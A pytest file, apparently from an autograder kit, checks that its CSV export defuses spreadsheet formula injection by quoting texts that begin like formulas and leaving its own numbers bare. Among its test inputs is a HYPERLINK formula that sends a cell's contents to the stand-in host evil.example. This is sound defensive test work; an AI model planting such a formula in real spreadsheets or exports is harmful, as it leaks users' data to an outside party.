"""Does every CSV cell the kit writes stay inert in a spreadsheet: a text beginning as a formula
with a single quote in front, every text quoted, the kit's own numbers bare? (The files
themselves, with the red team's names: test_export.py, test_canvas.py, test_moodle.py.)"""

from __future__ import annotations

import csv
import io

import pytest

from autograder.outputs.csv_cells import csv_text, inert, points

# What a spreadsheet reads as the start of a formula (OWASP's CSV-injection guidance).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


def a_formula(cell):
    """Would a spreadsheet run this cell, as a CSV reader gives it back?"""
    return cell.startswith(FORMULA_STARTS)


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", [HYPERLINK, "+SUM(1,2)", "-2+3", "@evil.example",
                                  "\t=1+1", "\r=1+1", "=1+1"])
def test_a_text_beginning_as_a_formula_gets_a_quote(text):
    """Does a text beginning with =, +, -, @, a tab or a carriage return come back from the
    file with a single quote in front, and otherwise whole?"""
    [[cell]] = read(csv_text([[text]]))
    assert cell == "'" + text and not a_formula(cell)


@pytest.mark.parametrize("text", ["alice", "alice@example.org", "101", "Liddell, Alice",
                                  "", "'=1+1", " =1+1"])
def test_other_text_is_left_as_it_is(text):
    """Is a text that does not begin as a formula written unchanged (a quote already in
    front gets no second one)?"""
    assert read(csv_text([[text]])) == [[text]]


def test_the_kits_numbers_stay_bare_numbers():
    """Are the kit's points, -2 and 3.5 among them, written as the bare numbers points()
    makes (unquoted, no single quote), every text cell in double quotes?"""
    row = ["-2+3", points(-2), points(3.5), points(3), points(0.4), ""]
    assert csv_text([row]) == "\"'-2+3\",-2,3.5,3,0.4,\"\"\r\n"
    assert inert(points(-2)) == -2


def test_a_locale_separator_cannot_start_a_new_cell():
    """Is a text holding a ";" or a tab quoted whole, so that a spreadsheet splitting on its
    locale's separator cannot make a cell beginning with "=" of its second half?"""
    assert csv_text([["Ada;=1+1", "Bob\t=1+1"]]) == '"Ada;=1+1","Bob\t=1+1"\r\n'
